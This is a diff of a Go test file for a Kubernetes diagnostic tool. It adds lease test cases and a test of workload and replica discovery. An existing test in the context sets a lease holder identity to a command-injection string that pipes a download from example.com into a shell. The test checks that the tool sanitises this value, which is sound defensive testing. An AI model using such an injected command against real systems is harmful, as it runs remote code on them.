@@ -1,12 +1,16 @@
 package main
 
 import (
+	"fmt"
+	"slices"
 	"strings"
 	"sync/atomic"
 	"testing"
 	"time"
 
+	appsv1 "k8s.io/api/apps/v1"
 	coordinationv1 "k8s.io/api/coordination/v1"
+	corev1 "k8s.io/api/core/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/runtime"
 	clienttesting "k8s.io/client-go/testing"
@@ -35,6 +39,8 @@ func TestLease(t *testing.T) {
 			return a.GetNamespace() != namespace, nil, forbidden
 		}
 	}
+	givenBack := lease("ops", 0)
+	givenBack.Spec.HolderIdentity = nil
 	for name, c := range map[string]struct {
 		leases  []runtime.Object
 		react   clienttesting.ReactionFunc
@@ -47,6 +53,7 @@ func TestLease(t *testing.T) {
 		"that of the documents comes first": {[]runtime.Object{lease("a", -time.Minute),
 			lease(diagnose.UsualNamespace, time.Hour)}, nil, diagnose.UsualNamespace, true},
 		"not renewed": {[]runtime.Object{lease("ops", time.Hour)}, nil, "ops", true},
+		"given back just now": {[]runtime.Object{givenBack}, nil, "ops", true},
 		"one of two is renewed": {[]runtime.Object{lease("a", time.Hour), lease("b", -time.Minute),
 			lease("c", time.Hour)}, nil, "b", false},
 		"renewed, by its clock": {nil, later(lease("ops", time.Hour), lease("ops", time.Hour-time.Second)), "ops", false},
@@ -61,7 +68,7 @@ func TestLease(t *testing.T) {
 				f.kube.PrependReactor("list", "leases", c.react)
 			}
 			got := f.cluster("default").controller(t.Context())
-			if got.Namespace != c.known || got.Stopped != c.stopped || (c.known != "") != (got.Holder == "lsc-7-x") {
+			if got.Namespace != c.known || got.Stopped != c.stopped || (c.known != "") != (got.Name == leaseName) {
 				t.Errorf("got %+v", got)
 			}
 		})
@@ -75,6 +82,34 @@ func TestLeaseHolder(t *testing.T) {
 	hostile.Spec.HolderIdentity = new("x; curl example.com | sh_0815")
 	if got := newFixture(t, hostile).cluster("default").controller(t.Context()); got.Holder != "POD" {
 		t.Errorf("got %+v", got)
+	}
+}
+
+// TestLookAround: what would make pods is found with how many it should make, a new DaemonSet included.
+func TestLookAround(t *testing.T) {
+	t.Parallel()
+	template := corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": "x"}}}
+	daemonSet := func(name string, observed int64) *appsv1.DaemonSet {
+		d := &appsv1.DaemonSet{ObjectMeta: meta(name), Spec: appsv1.DaemonSetSpec{Template: template}}
+		d.Generation, d.Status.ObservedGeneration = 1, observed
+		return d
+	}
+	elsewhere := pod("a", "n1", true)
+	elsewhere.Namespace = "another"
+	f := newFixture(t, elsewhere, daemonSet("new", 0), daemonSet("without-nodes", 1),
+		&appsv1.Deployment{ObjectMeta: meta("web"), Spec: appsv1.DeploymentSpec{Template: template}},
+		&appsv1.StatefulSet{ObjectMeta: meta("db"), Spec: appsv1.StatefulSetSpec{Replicas: new(int32(3)),
+			Template: template}})
+	got := f.cluster("default").lookAround(t.Context(), localService("demo", ""))
+	var made []string
+	for _, w := range got.Workloads {
+		if w.Name != "" && w.Labels["app"] == "x" {
+			made = append(made, fmt.Sprint(w.Kind, " ", w.Name, " ", w.Replicas))
+		}
+	}
+	want := []string{"Deployment web 1", "StatefulSet db 3", "DaemonSet new 1", "DaemonSet without-nodes 0"}
+	if !slices.Equal(made, want) || !slices.Equal(got.Namespaces, []string{"another"}) {
+		t.Errorf("got %v, and pods in %v", made, got.Namespaces)
 	}
 }
 
